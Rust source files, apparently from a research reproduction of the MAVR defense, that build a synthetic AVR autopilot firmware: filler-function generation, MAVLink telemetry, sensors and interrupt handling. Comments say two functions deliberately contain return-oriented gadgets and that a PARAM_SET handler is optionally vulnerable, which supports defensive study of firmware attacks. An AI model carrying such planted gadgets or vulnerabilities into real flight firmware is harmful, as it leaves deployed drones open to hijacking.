        assert!(by_name("helicopter").is_none());
    }

    #[test]
    fn paper_apps_match_table_values() {
        let apps = all_paper_apps();
        assert_eq!(
            apps.iter().map(|a| a.functions).collect::<Vec<_>>(),
            vec![917, 1030, 800]
        );
        assert_eq!(
            apps.iter()
                .map(|a| a.stock_size.unwrap())
                .collect::<Vec<_>>(),
            vec![221_608, 244_532, 177_870]
        );
        assert_eq!(
            apps.iter()
                .map(|a| a.mavr_size.unwrap())
                .collect::<Vec<_>>(),
            vec![221_294, 244_292, 177_556]
        );
    }

    #[test]
    fn seeds_are_distinct() {
        let apps = all_paper_apps();
        assert_ne!(apps[0].seed, apps[1].seed);
        assert_ne!(apps[1].seed, apps[2].seed);
    }
}
