//! Deterministic filler-function generation.
//!
//! Real autopilot firmware is hundreds of functions of control math,
//! drivers and protocol glue. The fillers stand in for that mass: seeded,
//! deterministic, **executable** functions in six shapes chosen to exercise
//! every structural feature MAVR must handle — ordinary leaves, frame
//! functions (whose epilogues are `stk_move` gadgets), callee-save writers
//! (whose epilogues are `write_mem` gadgets), call sites (long/short under
//! relaxation), switch-statement trampolines (`jmp function+offset`,
//! resolved by MAVR's binary search), and vtable-style indirect dispatch
//! through a function-pointer table in rodata (patched by MAVR's pointer
//! pass).

use avr_asm::{DataObject, FnBuilder, Function, Item, ToolchainOptions};
use avr_core::Insn::*;
use avr_core::Reg::{self, *};
use avr_core::YZ;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::corefn::{frame_epilogue, frame_prologue};
use crate::layout;

/// Number of "case ladder" functions at the front of the filler set; they
/// are both the switch-trampoline targets and the indirect-dispatch
/// targets, and being first they stay in low flash where `icall` (16-bit Z)
/// can reach them.
pub const N_LADDER: usize = 8;

/// Cases per ladder function (each case is `ldi r24, k ; ret`, 4 bytes).
pub const LADDER_CASES: u32 = 8;

/// Name of the rodata function-pointer table.
pub const DISPATCH_TABLE: &str = "dispatch_table";

/// Output of the filler generator.
#[derive(Debug, Clone)]
pub struct FillerSet {
    /// All filler functions, including `busy_work` and (under
    /// `-mcall-prologues`) the shared prologue/epilogue blobs.
    pub functions: Vec<Function>,
    /// Rodata objects referenced by the fillers.
    pub rodata: Vec<DataObject>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Ladder,
    LeafAlu,
    Frame,
    Saver,
    Caller,
    Switch,
    Indirect,
}

fn filler_name(i: usize) -> String {
    format!("filler_{i:04}")
}

/// Generate `n` fillers plus `busy_work`.
///
/// `avg_body_words` scales the random ALU padding so the natural code size
/// lands near the calibration target.
pub fn generate(
    n: usize,
    seed: u64,
    toolchain: ToolchainOptions,
    avg_body_words: u32,
) -> FillerSet {
    assert!(n > N_LADDER + 4, "need at least {} fillers", N_LADDER + 5);
    let mut rng = StdRng::seed_from_u64(seed);

    // Assign kinds first so call sites know their targets' shapes.
    let mut kinds = Vec::with_capacity(n);
    for i in 0..n {
        if i < N_LADDER {
            kinds.push(Kind::Ladder);
            continue;
        }
        let roll: f64 = rng.random();
        kinds.push(match roll {
            r if r < 0.35 => Kind::LeafAlu,
            r if r < 0.55 => Kind::Frame,
            r if r < 0.70 => Kind::Saver,
            r if r < 0.85 => Kind::Caller,
            r if r < 0.925 => Kind::Switch,
            _ => Kind::Indirect,
        });
    }
    let leaves: Vec<usize> = (0..n)
        .filter(|&i| matches!(kinds[i], Kind::LeafAlu | Kind::Frame | Kind::Saver))
        .collect();

    let mut functions = Vec::with_capacity(n + 3);
    for (i, &kind) in kinds.iter().enumerate() {
        let body = avg_body_words / 2 + rng.random_range(0..=avg_body_words.max(1));
        functions.push(match kind {
            Kind::Ladder => ladder(i),
            Kind::LeafAlu => leaf_alu(i, body, &mut rng),
            Kind::Frame => frame_fn(i, body, toolchain, &mut rng),
            Kind::Saver => saver_fn(i, body, toolchain, &mut rng),
            Kind::Caller => caller_fn(i, body, &kinds, &leaves, &mut rng),
            Kind::Switch => switch_fn(i, body, &mut rng),
            Kind::Indirect => indirect_fn(i, body, &mut rng),
        });
    }
    functions.push(busy_work(&kinds, &leaves, &mut rng));
    if toolchain.call_prologues {
        functions.push(prologue_saves_blob());
        functions.push(epilogue_restores_blob());
    }

    // The RTOS-style scheduler: a task table in rodata (function pointers
    // MAVR must patch) walked with elpm + icall every main-loop round.
    let tasks = [
        "task_beacon",
        &filler_name(0),
        &filler_name(1),
        &filler_name(2),
    ];
    functions.push(run_tasks(&tasks));

    let mut rodata = Vec::new();
    rodata.push(DataObject::fn_table(TASK_TABLE, &tasks));
    let ladder_names: Vec<String> = (0..N_LADDER).map(filler_name).collect();
    let ladder_refs: Vec<&str> = ladder_names.iter().map(String::as_str).collect();
    rodata.push(DataObject::fn_table(DISPATCH_TABLE, &ladder_refs));
    // A couple of constant blobs for realism.
    for b in 0..3 {
        let bytes: Vec<u8> = (0..64).map(|_| rng.random()).collect();
        rodata.push(DataObject::new(format!("const_blob_{b}"), bytes));
    }

    FillerSet { functions, rodata }
}

/// Random linear ALU padding on the call-clobbered registers r18–r25.
fn alu_block(b: FnBuilder, words: u32, slot: u16, rng: &mut StdRng) -> FnBuilder {
    let mut b = b;
    let mut emitted = 0u32;
    while emitted < words {
        let d = Reg::new(rng.random_range(18..=25));
        let r = Reg::new(rng.random_range(18..=25));
        let insn = match rng.random_range(0..14u8) {
            0 => Add { d, r },
            1 => Sub { d, r },
            2 => And { d, r },
            3 => Or { d, r },
            4 => Eor { d, r },
            5 => Mov { d, r },
            6 => Inc { d },
            7 => Dec { d },
            8 => Lsr { d },
            9 => Swap { d },
            10 => Com { d },
            11 => Ldi { d, k: rng.random() },
            12 => Subi { d, k: rng.random() },
            13 => {
                // A scratch-slot store/load pair (2 two-word insns).
                b = b.insn(Sts { k: slot, r: d }).insn(Lds { d: r, k: slot });
                emitted += 4;
                continue;
            }
            _ => unreachable!(),
        };
        emitted += insn.words();
        b = b.insn(insn);
    }
    b
}

/// A case ladder: `LADDER_CASES` blocks of `ldi r24, k ; ret`, each 4 bytes,
/// so `jmp ladder+4*case` lands on a case boundary.
fn ladder(i: usize) -> Function {
    let mut b = FnBuilder::new(filler_name(i));
    for case in 0..LADDER_CASES {
        b = b
            .insn(Ldi {
                d: R24,
                k: (i as u8).wrapping_mul(8).wrapping_add(case as u8),
            })
            .insn(Ret);
    }
    b.build()
}

fn leaf_alu(i: usize, body: u32, rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let b = FnBuilder::new(filler_name(i));
    alu_block(b, body, slot, rng).insn(Ret).build()
}

/// A frame function; its inline epilogue is a `stk_move` gadget. Under
/// `-mcall-prologues` the register saves route through the shared blob.
fn frame_fn(i: usize, body: u32, toolchain: ToolchainOptions, rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let frame = u16::from(rng.random_range(4..=28u8)) * 2;
    let mut b = FnBuilder::new(filler_name(i));
    if toolchain.call_prologues {
        b = b.call("__prologue_saves__");
        b = b
            .insn(In {
                d: R28,
                a: avr_core::io::SPL,
            })
            .insn(In {
                d: R29,
                a: avr_core::io::SPH,
            })
            .insn(Sbiw {
                d: R28,
                k: frame as u8,
            })
            .insn(In {
                d: R0,
                a: avr_core::io::SREG,
            })
            .insn(Out {
                a: avr_core::io::SPH,
                r: R29,
            })
            .insn(Out {
                a: avr_core::io::SREG,
                r: R0,
            })
            .insn(Out {
                a: avr_core::io::SPL,
                r: R28,
            });
    } else {
        b = frame_prologue(b, frame);
    }
    // Touch some locals through Y.
    for _ in 0..rng.random_range(2..6) {
        let q = rng.random_range(1..=frame as u8);
        let r = Reg::new(rng.random_range(18..=25));
        b = b.insn(Std { idx: YZ::Y, q, r }).insn(Ldd {
            d: r,
            idx: YZ::Y,
            q,
        });
    }
    b = alu_block(b, body, slot, rng);
    if toolchain.call_prologues {
        b = b
            .insn(Adiw {
                d: R28,
                k: frame as u8,
            })
            .insn(In {
                d: R0,
                a: avr_core::io::SREG,
            })
            .insn(Out {
                a: avr_core::io::SPH,
                r: R29,
            })
            .insn(Out {
                a: avr_core::io::SREG,
                r: R0,
            })
            .insn(Out {
                a: avr_core::io::SPL,
                r: R28,
            })
            .call("__epilogue_restores__")
            .insn(Ret);
    } else {
        b = frame_epilogue(b, frame);
    }
    b.build()
}

/// A callee-save writer: takes a destination in r25:r24, stores three bytes
/// through Y. Its inline epilogue is a `write_mem` gadget.
fn saver_fn(i: usize, body: u32, toolchain: ToolchainOptions, rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let mut b = FnBuilder::new(filler_name(i));
    if toolchain.call_prologues {
        b = b.call("__prologue_saves__");
    } else {
        for r in 4..=17u8 {
            b = b.insn(Push { r: Reg::new(r) });
        }
        b = b.insn(Push { r: R28 }).insn(Push { r: R29 });
    }
    b = b
        .insn(Movw { d: R28, r: R24 })
        .insn(Lds { d: R5, k: slot })
        .insn(Lds { d: R6, k: slot + 1 })
        .insn(Lds { d: R7, k: slot + 2 });
    b = alu_block(b, body, slot, rng);
    b = b
        .insn(Std {
            idx: YZ::Y,
            q: 1,
            r: R5,
        })
        .insn(Std {
            idx: YZ::Y,
            q: 2,
            r: R6,
        })
        .insn(Std {
            idx: YZ::Y,
            q: 3,
            r: R7,
        });
    if toolchain.call_prologues {
        b = b.call("__epilogue_restores__").insn(Ret);
    } else {
        b = b.insn(Pop { d: R29 }).insn(Pop { d: R28 });
        for r in (4..=17u8).rev() {
            b = b.insn(Pop { d: Reg::new(r) });
        }
        b = b.insn(Ret);
    }
    b.build()
}

/// Set up the argument registers for a call to `callee` (savers need their
/// scratch-slot address in r25:r24; `+1` so the Y+1..Y+3 stores stay inside
/// the 4-byte slot... the stores cover slot+2..slot+4, so pass `slot - 1`).
fn call_with_args(b: FnBuilder, callee: usize, kinds: &[Kind]) -> FnBuilder {
    let mut b = b;
    if kinds[callee] == Kind::Saver {
        let dest = layout::filler_slot(callee) - 1; // stores land on slot..slot+2
        b = b
            .insn(Ldi {
                d: R24,
                k: (dest & 0xff) as u8,
            })
            .insn(Ldi {
                d: R25,
                k: (dest >> 8) as u8,
            });
    }
    b.call(filler_name(callee))
}

fn caller_fn(i: usize, body: u32, kinds: &[Kind], leaves: &[usize], rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let mut b = FnBuilder::new(filler_name(i));
    let n_calls = rng.random_range(1..=3usize);
    let per_segment = body / (n_calls as u32 + 1);
    for _ in 0..n_calls {
        b = alu_block(b, per_segment, slot, rng);
        let callee = leaves[rng.random_range(0..leaves.len())];
        b = call_with_args(b, callee, kinds);
    }
    b = alu_block(b, per_segment, slot, rng);
    b.insn(Ret).build()
}

/// A switch-statement trampoline: `jmp ladder_fn + 4*case` — the jump into
/// the middle of a function block that MAVR's patcher resolves by binary
/// search (§VI-B3).
fn switch_fn(i: usize, body: u32, rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let target = rng.random_range(0..N_LADDER);
    let case = rng.random_range(0..LADDER_CASES);
    let b = FnBuilder::new(filler_name(i));
    alu_block(b, body, slot, rng)
        .item(Item::JmpSymOffset {
            name: filler_name(target),
            byte_offset: 4 * case,
        })
        .build()
}

/// A vtable-style indirect call: load a function pointer (16-bit word
/// address) from the rodata dispatch table with `elpm`, then `icall`.
fn indirect_fn(i: usize, body: u32, rng: &mut StdRng) -> Function {
    let slot = layout::filler_slot(i);
    let entry = rng.random_range(0..N_LADDER) as u32;
    let mut b = FnBuilder::new(filler_name(i));
    b = alu_block(b, body, slot, rng);
    b = b
        // RAMPZ:Z = &dispatch_table[entry]
        .item(Item::LdiSymByte {
            d: R24,
            sym: DISPATCH_TABLE.into(),
            offset: entry * 2,
            byte: 2,
        })
        .insn(Out {
            a: avr_core::io::RAMPZ,
            r: R24,
        })
        .item(Item::LdiSymByte {
            d: R30,
            sym: DISPATCH_TABLE.into(),
            offset: entry * 2,
            byte: 0,
        })
        .item(Item::LdiSymByte {
            d: R31,
            sym: DISPATCH_TABLE.into(),
            offset: entry * 2,
            byte: 1,
        })
        .insn(Elpm {
            d: R24,
            post_inc: true,
        })
        .insn(Elpm {
            d: R25,
            post_inc: false,
        })
        .insn(Movw { d: R30, r: R24 })
        .insn(Icall)
        .insn(Ret);
    b.build()
}

/// The main loop's workload hook: a spread of calls across the filler space
/// so distant code actually executes every iteration.
fn busy_work(kinds: &[Kind], leaves: &[usize], rng: &mut StdRng) -> Function {
    let n = kinds.len();
    let mut b = FnBuilder::new("busy_work");
    // Two ladder dispatches, two callers, four leaves spread over the image.
    let mut targets: Vec<usize> = vec![rng.random_range(0..N_LADDER)];
    if let Some(&c) = kinds
        .iter()
        .enumerate()
        .filter(|(_, k)| **k == Kind::Caller)
        .map(|(i, _)| i)
        .collect::<Vec<_>>()
        .first()
    {
        targets.push(c);
    }
    for frac in [0.2, 0.5, 0.8, 0.98] {
        let want = (n as f64 * frac) as usize;
        // Nearest leaf at or after `want`.
        let leaf = leaves
            .iter()
            .copied()
            .find(|&l| l >= want)
            .unwrap_or(leaves[leaves.len() - 1]);
        targets.push(leaf);
    }
    for t in targets {
        b = call_with_args(b, t, kinds);
    }
    b.insn(Ret).build()
}

/// Name of the RTOS task table in rodata.
pub const TASK_TABLE: &str = "task_table";

/// The scheduler: dispatch every entry of the task table through
/// `elpm` + `icall`, one full round per call.
fn run_tasks(tasks: &[&str]) -> Function {
    let mut b = FnBuilder::new("run_tasks");
    for (i, _) in tasks.iter().enumerate() {
        let off = (i * 2) as u32;
        b = b
            .item(Item::LdiSymByte {
                d: R24,
                sym: TASK_TABLE.into(),
                offset: off,
                byte: 2,
            })
            .insn(Out {
                a: avr_core::io::RAMPZ,
                r: R24,
            })
            .item(Item::LdiSymByte {
                d: R30,
                sym: TASK_TABLE.into(),
                offset: off,
                byte: 0,
            })
            .item(Item::LdiSymByte {
                d: R31,
                sym: TASK_TABLE.into(),
                offset: off,
                byte: 1,
            })
            .insn(Elpm {
                d: R24,
                post_inc: true,
            })
            .insn(Elpm {
                d: R25,
                post_inc: false,
            })
            .insn(Movw { d: R30, r: R24 })
            .insn(Icall);
    }
    b.insn(Ret).build()
}

/// The shared `-mcall-prologues` save blob: pops its own return address,
/// pushes r2–r17/r28/r29, then returns through the re-pushed address.
/// Self-contained (no code-address immediates), so it works anywhere in the
/// 256 KiB flash — and it is the gadget-concentration hazard the paper
/// describes.
fn prologue_saves_blob() -> Function {
    let mut b = FnBuilder::new("__prologue_saves__")
        .insn(Pop { d: R0 })
        .insn(Pop { d: R31 })
        .insn(Pop { d: R30 });
    for r in 2..=17u8 {
        b = b.insn(Push { r: Reg::new(r) });
    }
    b = b.insn(Push { r: R28 }).insn(Push { r: R29 });
    b = b
        .insn(Push { r: R30 })
        .insn(Push { r: R31 })
        .insn(Push { r: R0 })
        .insn(Ret);
    b.build()
}

/// The matching restore blob.
fn epilogue_restores_blob() -> Function {
    let mut b = FnBuilder::new("__epilogue_restores__")
        .insn(Pop { d: R0 })
        .insn(Pop { d: R31 })
        .insn(Pop { d: R30 })
        .insn(Pop { d: R29 })
        .insn(Pop { d: R28 });
    for r in (2..=17u8).rev() {
        b = b.insn(Pop { d: Reg::new(r) });
    }
    b = b
        .insn(Push { r: R30 })
        .insn(Push { r: R31 })
        .insn(Push { r: R0 })
        .insn(Ret);
    b.build()
}
