//! The hand-written core of the synthetic autopilot, expressed as
//! `avr_asm` functions: startup, main loop, sensor pipeline, MAVLink
//! transmit/receive, and the (optionally vulnerable) PARAM_SET handler.
//!
//! Two functions double as the paper's gadget carriers:
//!
//! * [`nav_update`] is an ordinary avr-gcc-style *frame function*; its
//!   epilogue is byte-for-byte the `stk_move` gadget of Fig. 4,
//! * [`imu_commit_sample`] saves r4–r17/r28/r29 and stores three staged
//!   bytes through Y; its tail is byte-for-byte the `write_mem_gadget` of
//!   Fig. 5.

use avr_asm::{FnBuilder, Function};
use avr_core::io;
use avr_core::Insn::{self, *};
use avr_core::Reg::{self, *};
use avr_core::YZ;

use crate::layout as l;

// UART data-space addresses (see avr-sim::periph).
const UCSR0A: u16 = 0xc0;
const UDR0: u16 = 0xc6;
const RXC_BIT: u8 = 7;
// Timer0 data-space addresses (see avr-sim::timer).
const TCCR0B: u16 = 0x45;
const TIMSK0: u16 = 0x6e;
// ADC data-space addresses (see avr-sim::adc). Extended I/O: lds/sts only.
const ADCH: u16 = 0x79;
const ADCSRA: u16 = 0x7a;
const ADMUX: u16 = 0x7c;
const ADLAR: u8 = 1 << 5;
const ADSC_BIT: u8 = 6;
// Timer0 output-compare latches the world model reads as motor commands.
const OCR0A: u16 = 0x47;
const OCR0B: u16 = 0x48;
// EEPROM register data-space addresses (see avr-sim::eeprom).
const EECR: u16 = 0x3f;
const EEDR: u16 = 0x40;
const EEARL: u16 = 0x41;
const EEARH: u16 = 0x42;
const EERE: u8 = 1;
const EEPE: u8 = 2;
const EEMPE: u8 = 4;

fn ldi(d: Reg, k: u8) -> Insn {
    Ldi { d, k }
}

fn lds(d: Reg, k: u16) -> Insn {
    Lds { d, k }
}

fn sts(k: u16, r: Reg) -> Insn {
    Sts { k, r }
}

/// `__init`: set up SP, the zero register, the heartbeat pin direction,
/// and the globals; then jump to the main loop. Flight builds additionally
/// zero the altitude-trim global (non-flight codegen is byte-identical to
/// what it was before the flight path existed).
pub fn init(gyro_init: [u8; 6], flight: bool) -> Function {
    let mut b = FnBuilder::new("__init")
        // SP = RAMEND (0x21ff).
        .insn(ldi(R24, 0x21))
        .insn(Out { a: io::SPH, r: R24 })
        .insn(ldi(R24, 0xff))
        .insn(Out { a: io::SPL, r: R24 })
        // r1 = 0 (the avr-gcc zero register).
        .insn(Eor { d: R1, r: R1 })
        // DDRB: heartbeat pin as output.
        .insn(ldi(R24, 1 << avr_sim_heartbeat_bit()))
        .insn(Out { a: 0x04, r: R24 });
    // Zero the control/parser globals.
    for addr in [
        l::TICK,
        l::TICK + 1,
        l::RX_STATE,
        l::RX_LEN,
        l::RX_CNT,
        l::TX_SEQ,
        l::BAD_CRC_COUNT,
        l::PARAM_SET_COUNT,
        l::COMMAND_COUNT,
    ] {
        b = b.insn(sts(addr, R1));
    }
    if flight {
        b = b.insn(sts(l::ALT_TRIM, R1));
    }
    // Seed the sensor blocks.
    for (i, v) in gyro_init.iter().enumerate() {
        b = b.insn(ldi(R24, *v)).insn(sts(l::GYRO + i as u16, R24));
    }
    for i in 0..6u16 {
        b = b
            .insn(ldi(R24, 0x10 + i as u8))
            .insn(sts(l::ACC + i, R24))
            .insn(ldi(R24, 0x80 - i as u8))
            .insn(sts(l::MAG + i, R24));
    }
    // Timer0: /64 prescale, overflow interrupt on; global interrupts on.
    b = b
        .insn(ldi(R24, 3))
        .insn(sts(TCCR0B, R24))
        .insn(ldi(R24, 1))
        .insn(sts(TIMSK0, R24))
        .insn(sts(l::SOFT_CLOCK, R1))
        .insn(sts(l::SOFT_CLOCK + 1, R1))
        .insn(Bset {
            s: avr_core::sreg::I,
        });
    b = b.call("param_load");
    b.jmp("main_loop").build()
}

/// The TIMER0 overflow ISR: increments the 16-bit soft clock. Entered via
/// interrupt vector 23, which MAVR must keep patched when the ISR moves.
pub fn timer0_ovf_isr() -> Function {
    FnBuilder::new("timer0_ovf_isr")
        .insn(Push { r: R0 })
        .insn(In { d: R0, a: io::SREG })
        .insn(Push { r: R0 })
        .insn(Push { r: R24 })
        .insn(lds(R24, l::SOFT_CLOCK))
        .insn(Inc { d: R24 })
        .insn(sts(l::SOFT_CLOCK, R24))
        .brne("isr_done")
        .insn(lds(R24, l::SOFT_CLOCK + 1))
        .insn(Inc { d: R24 })
        .insn(sts(l::SOFT_CLOCK + 1, R24))
        .label("isr_done")
        .insn(Pop { d: R24 })
        .insn(Pop { d: R0 })
        .insn(Out { a: io::SREG, r: R0 })
        .insn(Pop { d: R0 })
        .insn(Reti)
        .build()
}

const fn avr_sim_heartbeat_bit() -> u8 {
    // Kept in sync with avr_sim::HEARTBEAT_BIT by an integration test.
    5
}

/// The main control loop: heartbeat, sensors, telemetry, command handling,
/// and filler workload — forever. Flight builds run the closed-loop
/// controller right after the navigation update.
pub fn main_loop(flight: bool) -> Function {
    let mut b = FnBuilder::new("main_loop")
        .label("top")
        .call("heartbeat_toggle")
        .call("read_sensors")
        .call("nav_update");
    if flight {
        b = b.call("flight_control");
    }
    b.call("send_heartbeat")
        .call("send_raw_imu")
        // SYS_STATUS once every 8 ticks.
        .insn(lds(R24, l::TICK))
        .insn(Andi { d: R24, k: 0x07 })
        .brne("skip_sys_status")
        .call("send_sys_status")
        .label("skip_sys_status")
        .call("mavlink_rx_poll")
        .call("run_tasks")
        .call("busy_work")
        .rjmp("top")
        .build()
}

/// Toggle the heartbeat bit on PORTB.
pub fn heartbeat_toggle() -> Function {
    FnBuilder::new("heartbeat_toggle")
        .insn(In { d: R24, a: 0x05 })
        .insn(ldi(R25, 1 << avr_sim_heartbeat_bit()))
        .insn(Eor { d: R24, r: R25 })
        .insn(Out { a: 0x05, r: R24 })
        .insn(Ret)
        .build()
}

/// `crc_update(crc: r25:r24, byte: r22) -> r25:r24` — the MAVLink X25
/// accumulate step. Clobbers r22, r23.
pub fn crc_update() -> Function {
    FnBuilder::new("crc_update")
        // tmp = byte ^ lo(crc)
        .insn(Eor { d: R22, r: R24 })
        // tmp ^= tmp << 4
        .insn(Mov { d: R23, r: R22 })
        .insn(Swap { d: R23 })
        .insn(Andi { d: R23, k: 0xf0 })
        .insn(Eor { d: R22, r: R23 })
        // crc >>= 8
        .insn(Mov { d: R24, r: R25 })
        .insn(ldi(R25, 0))
        // crc ^= tmp << 8
        .insn(Eor { d: R25, r: R22 })
        // crc ^= tmp << 3 (lo: tmp<<3, hi: tmp>>5)
        .insn(Mov { d: R23, r: R22 })
        .insn(Add { d: R23, r: R23 })
        .insn(Add { d: R23, r: R23 })
        .insn(Add { d: R23, r: R23 })
        .insn(Eor { d: R24, r: R23 })
        .insn(Mov { d: R23, r: R22 })
        .insn(Lsr { d: R23 })
        .insn(Lsr { d: R23 })
        .insn(Lsr { d: R23 })
        .insn(Lsr { d: R23 })
        .insn(Lsr { d: R23 })
        .insn(Eor { d: R25, r: R23 })
        // crc ^= tmp >> 4
        .insn(Mov { d: R23, r: R22 })
        .insn(Swap { d: R23 })
        .insn(Andi { d: R23, k: 0x0f })
        .insn(Eor { d: R24, r: R23 })
        .insn(Ret)
        .build()
}

/// `rx_crc_feed(byte: r22)`: run the receive CRC held in SRAM through one
/// accumulate step. Clobbers r22–r25.
pub fn rx_crc_feed() -> Function {
    FnBuilder::new("rx_crc_feed")
        .insn(lds(R24, l::RX_CRC_L))
        .insn(lds(R25, l::RX_CRC_H))
        .call("crc_update")
        .insn(sts(l::RX_CRC_L, R24))
        .insn(sts(l::RX_CRC_H, R25))
        .insn(Ret)
        .build()
}

/// `tx_frame`: transmit the frame assembled in `TX_BUF` (header + payload
/// of `TX_LEN` bytes), computing and appending the X25 checksum seeded with
/// `TX_CRC_EXTRA`.
pub fn tx_frame() -> Function {
    FnBuilder::new("tx_frame")
        .insn(lds(R20, l::TX_LEN))
        .insn(Subi { d: R20, k: 0xfa }) // r20 += 6 (header)
        .insn(ldi(R26, (l::TX_BUF & 0xff) as u8))
        .insn(ldi(R27, (l::TX_BUF >> 8) as u8))
        // Magic byte: transmitted, not CRC'd.
        .insn(Ld {
            d: R21,
            ptr: avr_core::PtrReg::XPostInc,
        })
        .insn(sts(UDR0, R21))
        .insn(Dec { d: R20 })
        .insn(ldi(R24, 0xff))
        .insn(ldi(R25, 0xff))
        .label("tx_loop")
        .insn(And { d: R20, r: R20 })
        .breq("tx_done")
        .insn(Ld {
            d: R21,
            ptr: avr_core::PtrReg::XPostInc,
        })
        .insn(Mov { d: R22, r: R21 })
        .call("crc_update")
        .insn(sts(UDR0, R21))
        .insn(Dec { d: R20 })
        .rjmp("tx_loop")
        .label("tx_done")
        .insn(lds(R22, l::TX_CRC_EXTRA))
        .call("crc_update")
        .insn(sts(UDR0, R24))
        .insn(sts(UDR0, R25))
        .insn(Ret)
        .build()
}

fn stage_header(mut b: FnBuilder, payload_len: u8, msgid: u8) -> FnBuilder {
    b = b
        .insn(ldi(R24, 0xfe))
        .insn(sts(l::TX_BUF, R24))
        .insn(ldi(R24, payload_len))
        .insn(sts(l::TX_BUF + 1, R24))
        .insn(lds(R24, l::TX_SEQ))
        .insn(sts(l::TX_BUF + 2, R24))
        .insn(Inc { d: R24 })
        .insn(sts(l::TX_SEQ, R24))
        .insn(ldi(R24, 1)) // sysid 1 = the UAV
        .insn(sts(l::TX_BUF + 3, R24))
        .insn(ldi(R24, 1)) // compid
        .insn(sts(l::TX_BUF + 4, R24))
        .insn(ldi(R24, msgid))
        .insn(sts(l::TX_BUF + 5, R24))
        .insn(ldi(R24, payload_len))
        .insn(sts(l::TX_LEN, R24));
    b
}

/// `send_heartbeat`: assemble and transmit a HEARTBEAT with the tick
/// counter in `custom_mode`.
pub fn send_heartbeat(vehicle_type: u8) -> Function {
    let mut b = stage_header(FnBuilder::new("send_heartbeat"), 9, 0);
    // custom_mode = tick (zero-extended u32)
    b = b
        .insn(lds(R24, l::TICK))
        .insn(sts(l::TX_BUF + 6, R24))
        .insn(lds(R24, l::TICK + 1))
        .insn(sts(l::TX_BUF + 7, R24))
        .insn(sts(l::TX_BUF + 8, R1))
        .insn(sts(l::TX_BUF + 9, R1));
    for (off, val) in [
        (10u16, vehicle_type),
        (11, 3),  // autopilot = ArduPilotMega
        (12, 81), // base_mode
        (13, 4),  // system_status = active
        (14, 3),  // mavlink_version
    ] {
        b = b.insn(ldi(R24, val)).insn(sts(l::TX_BUF + off, R24));
    }
    b.insn(ldi(R24, 50)) // crc_extra(HEARTBEAT)
        .insn(sts(l::TX_CRC_EXTRA, R24))
        .call("tx_frame")
        .insn(Ret)
        .build()
}

/// `send_raw_imu`: transmit a RAW_IMU frame with the live sensor blocks —
/// including the gyro words the attacks overwrite, so the ground station
/// sees the effect.
pub fn send_raw_imu() -> Function {
    let mut b = stage_header(FnBuilder::new("send_raw_imu"), 26, 27);
    // time_usec: tick in the low two bytes, zeros above.
    b = b
        .insn(lds(R24, l::TICK))
        .insn(sts(l::TX_BUF + 6, R24))
        .insn(lds(R24, l::TICK + 1))
        .insn(sts(l::TX_BUF + 7, R24));
    for off in 8..14u16 {
        b = b.insn(sts(l::TX_BUF + off, R1));
    }
    // acc, gyro, mag blocks (6 bytes each), in RAW_IMU field order.
    for (i, src) in [(0u16, l::ACC), (6, l::GYRO), (12, l::MAG)] {
        for j in 0..6u16 {
            b = b
                .insn(lds(R24, src + j))
                .insn(sts(l::TX_BUF + 14 + i + j, R24));
        }
    }
    b.insn(ldi(R24, 144)) // crc_extra(RAW_IMU)
        .insn(sts(l::TX_CRC_EXTRA, R24))
        .call("tx_frame")
        .insn(Ret)
        .build()
}

/// `send_sys_status`: transmit a SYS_STATUS frame reporting the §III CPU
/// load figure (96.0% => 960) and nominal battery numbers.
pub fn send_sys_status() -> Function {
    let mut b = stage_header(FnBuilder::new("send_sys_status"), 31, 1);
    // sensors present / enabled / health: gyro|acc|mag = 0x0000_0007.
    for base in [6u16, 10, 14] {
        b = b
            .insn(ldi(R24, 0x07))
            .insn(sts(l::TX_BUF + base, R24))
            .insn(sts(l::TX_BUF + base + 1, R1))
            .insn(sts(l::TX_BUF + base + 2, R1))
            .insn(sts(l::TX_BUF + base + 3, R1));
    }
    // load = 960 (0x03c0) — "about 96% CPU usage" (§III).
    b = b
        .insn(ldi(R24, 0xc0))
        .insn(sts(l::TX_BUF + 18, R24))
        .insn(ldi(R24, 0x03))
        .insn(sts(l::TX_BUF + 19, R24))
        // voltage 11100 mV (0x2b5c)
        .insn(ldi(R24, 0x5c))
        .insn(sts(l::TX_BUF + 20, R24))
        .insn(ldi(R24, 0x2b))
        .insn(sts(l::TX_BUF + 21, R24));
    // current, drop rate, errors_comm, errors_count[4]: zeros.
    for off in 22..36u16 {
        b = b.insn(sts(l::TX_BUF + off, R1));
    }
    // battery_remaining = 80%.
    b = b
        .insn(ldi(R24, 80))
        .insn(sts(l::TX_BUF + 36, R24))
        .insn(ldi(R24, 124)) // crc_extra(SYS_STATUS)
        .insn(sts(l::TX_CRC_EXTRA, R24))
        .call("tx_frame")
        .insn(Ret);
    b.build()
}

/// `read_sensors`: advance the tick, stage the new gyro sample and commit
/// it through [`imu_commit_sample`]; drift the accelerometer.
///
/// The staged pattern is deterministic: `gyro[0] = lo(tick)`,
/// `gyro[1] = hi(tick)`, `gyro[2] = lo(tick) ^ hi(tick)`. Bytes
/// `gyro[3..6]` are set at init and never rewritten — they are the
/// persistent sensor state the attacks target.
pub fn read_sensors() -> Function {
    FnBuilder::new("read_sensors")
        .insn(lds(R24, l::TICK))
        .insn(lds(R25, l::TICK + 1))
        .insn(Adiw { d: R24, k: 1 })
        .insn(sts(l::TICK, R24))
        .insn(sts(l::TICK + 1, R25))
        .insn(sts(l::STAGE, R24))
        .insn(sts(l::STAGE + 1, R25))
        .insn(Mov { d: R23, r: R24 })
        .insn(Eor { d: R23, r: R25 })
        .insn(sts(l::STAGE + 2, R23))
        // commit to GYRO: pass &GYRO - 1 so Y+1..Y+3 hit GYRO..GYRO+2.
        .insn(ldi(R24, ((l::GYRO - 1) & 0xff) as u8))
        .insn(ldi(R25, ((l::GYRO - 1) >> 8) as u8))
        .call("imu_commit_sample")
        // acc[0] += 1
        .insn(lds(R24, l::ACC))
        .insn(Subi { d: R24, k: 0xff })
        .insn(sts(l::ACC, R24))
        .insn(Ret)
        .build()
}

/// `imu_commit_sample(dest: r25:r24)`: store the three staged bytes at
/// `dest+1..dest+3`.
///
/// The callee-save epilogue of this function is, instruction for
/// instruction, the paper's `write_mem_gadget` (Fig. 5):
